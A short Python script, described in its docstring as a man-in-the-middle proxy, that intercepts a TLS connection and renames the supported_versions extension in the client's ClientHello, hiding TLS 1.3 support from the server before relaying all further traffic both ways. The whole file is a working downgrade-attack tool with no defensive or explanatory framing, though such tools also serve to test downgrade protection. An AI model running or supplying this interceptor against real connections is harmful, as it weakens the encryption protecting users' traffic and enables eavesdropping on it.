"""A man in the middle who hides from the server that the client can speak TLS 1.3.

Renames the supported_versions extension of the ClientHello that passes, so that the server ignores it. Arguments:
listening address and port, then the server's.
"""

import socket
import struct
import sys
import threading

SUPPORTED_VERSIONS = 0x002B
UNASSIGNED = 0xFE2B


def downgraded(hello):
    """The first flight with the extension renamed; walks record header, handshake header and the fixed fields."""
    at = 5 + 4 + 2 + 32
    at += 1 + hello[at]
    at += 2 + struct.unpack_from("!H", hello, at)[0]
    at += 1 + hello[at]
    end = at + 2 + struct.unpack_from("!H", hello, at)[0]
    at += 2
    changed = bytearray(hello)
    while at < end:
        kind, length = struct.unpack_from("!HH", hello, at)
        if kind == SUPPORTED_VERSIONS:
            struct.pack_into("!H", changed, at, UNASSIGNED)
        at += 4 + length
    return bytes(changed)


def pump(source, sink):
    while data := source.recv(65536):
        sink.sendall(data)
    try:
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass  # the other side has gone first


address, port, server, server_port = sys.argv[1:]
with socket.create_server((address, int(port))) as listener:
    while True:
        client, _ = listener.accept()
        onward = socket.create_connection((server, int(server_port)))
        hello = client.recv(65536)
        while len(hello) < 5 + struct.unpack_from("!H", hello, 3)[0]:
            hello += client.recv(65536)
        onward.sendall(downgraded(hello))
        threading.Thread(target=pump, args=(client, onward), daemon=True).start()
        threading.Thread(target=pump, args=(onward, client), daemon=True).start()
